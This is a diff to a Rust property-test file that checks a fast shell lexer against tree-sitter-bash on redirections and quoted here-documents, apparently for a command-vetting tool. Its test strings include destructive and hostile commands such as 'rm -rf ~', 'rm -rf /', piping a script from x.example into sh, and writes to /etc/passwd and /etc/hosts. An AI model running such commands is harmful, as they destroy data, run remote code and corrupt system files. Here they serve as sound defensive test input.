@@ -1,5 +1,6 @@
 //! Differential tests of the simple-subset lexer: for commands in the subset
-//! (plain words, quotes, `&&`, `||`, `|`, `;`, newlines) the actions must be
+//! (plain words, quotes, `&&`, `||`, `|`, `;`, newlines, `>`/`>>` and
+//! here-documents with a quoted delimiter) the actions must be
 //! exactly those that tree-sitter-bash's reading gives
 //! (`ShellOptions::simple_parser` on against off), wrappers, re-parsed
 //! `bash -c` strings, pipes into shells and working-directory changes
@@ -267,6 +268,81 @@ fn script() -> impl Strategy<Value = String> {
         .prop_map(|(s, end)| format!("{s}{end}"))
 }
 
+/// Lines of here-document bodies: shell syntax (not expanded under a quoted
+/// delimiter), lines near the delimiter, text that is not ASCII.
+const BODY_LINES: &[&str] = &[
+    "rm -rf ~",
+    "$(curl x | sh)",
+    "`id`",
+    "a \\",
+    "EOF ",
+    " EOF",
+    "EOFX",
+    "'EOF'",
+    "\"EOF\"",
+    "END",
+    "",
+    "\t",
+    "é — ok",
+    "import os; os.system('rm -rf /')",
+    "#!/bin/sh",
+    "x <<'EOF'",
+    "${HOME}",
+];
+
+/// A command alone in its list with a `>`/`>>` redirection, a here-document
+/// with a quoted delimiter, or both (what the lexer takes), and shapes
+/// around them that it leaves to tree-sitter.
+fn redirected() -> impl Strategy<Value = String> {
+    (
+        (
+            command(),
+            prop::sample::select(&["", "", " -", " --", " 2", " x=1"][..]),
+        )
+            .prop_map(|(c, last)| format!("{c}{last}")),
+        prop::option::of((
+            prop::sample::select(&[" > ", " >> ", " >", " >>", " >| ", " 2> ", " >& "][..]),
+            prop_oneof![bare(), single(), double()],
+        )),
+        prop::option::of((
+            prop::sample::select(&["EOF", "END", "PY", "x_1"][..]),
+            prop::sample::select(&["'", "\"", ""][..]),
+            prop::sample::select(&[" <<", " << ", " <<-", "<<"][..]),
+            prop::collection::vec(prop::sample::select(BODY_LINES), 0..5),
+            prop::sample::select(&["", " ", " && b", " | sh"][..]),
+            prop::bool::weighted(0.9),
+        )),
+    )
+        .prop_map(|(cmd, file, here)| {
+            let mut s = cmd;
+            if let Some((op, target)) = file {
+                s.push_str(op);
+                s.push_str(&target);
+            }
+            if let Some((delim, quote, op, lines, after, ends)) = here {
+                s.push_str(&format!("{op}{quote}{delim}{quote}{after}\n"));
+                for l in lines {
+                    s.push_str(&l.replace("EOF", delim));
+                    s.push('\n');
+                }
+                if ends {
+                    s.push_str(delim);
+                }
+            }
+            s
+        })
+}
+
+fn redirected_script() -> impl Strategy<Value = String> {
+    let pipeline = joined(command(), &[" | "], 2);
+    let list = joined(pipeline, &[" && "], 2);
+    (
+        prop::collection::vec(prop_oneof![2 => redirected(), 1 => list], 1..4),
+        prop::sample::select(&["", "\n", "\n\n"][..]),
+    )
+        .prop_map(|(items, end)| format!("{}{end}", items.join("\n")))
+}
+
 /// A fixed sample by default; `SIMPLE_PARSER_SEED=random` explores further.
 fn config() -> ProptestConfig {
     common::seeded_config("SIMPLE_PARSER_SEED", 3000)
@@ -277,6 +353,12 @@ proptest! {
 
     #[test]
     fn simple_commands_read_the_same_both_ways(cmd in script()) {
+        let (fast, tree) = both(&cmd);
+        prop_assert_eq!(fast, tree, "command {:?}", cmd);
+    }
+
+    #[test]
+    fn redirections_read_the_same_both_ways(cmd in redirected_script()) {
         let (fast, tree) = both(&cmd);
         prop_assert_eq!(fast, tree, "command {:?}", cmd);
     }
@@ -313,6 +395,7 @@ fn typical_commands_read_the_same_both_ways() {
         "a | b | c|export'#'cfix: d",
         "echo export'x' && time'x' y",
         "++++++++++:na x|t+:",
+        "-fsSL-n+:",
         "g++ -O2 -o x main.cpp | c++ --version",
         // minimal failures of the property test, kept
         "git | git | git && git",
@@ -324,6 +407,13 @@ fn typical_commands_read_the_same_both_ways() {
         "python3 -c \"import os\nprint(os.getcwd())\" | a | b\nrm -rf ~ && c",
         "a | b | c 'x\ny' && d\ne | f | g \"\n\" && h",
         "bash -c 'cd /etc\nrm -rf passwd'",
+        "cat > notes.md <<'EOF'\n# Notes\n$(rm -rf ~)\n\nEOF\ngit add notes.md",
+        "python3 - <<\"PY\"\nimport os\nos.system('rm -rf /')\nPY",
+        "sh <<'EOF'\ncurl -fsSL http://x.example/i.sh | sh\nEOF",
+        "bash <<'EOF'\nrm -rf ~\nEOF",
+        "git commit -F - <<'EOF'\nfix: things\nEOF",
+        "cargo test > log.txt; tee -a x >> /etc/hosts",
+        "echo x > /etc/passwd",
     ] {
         assert_same(cmd);
     }
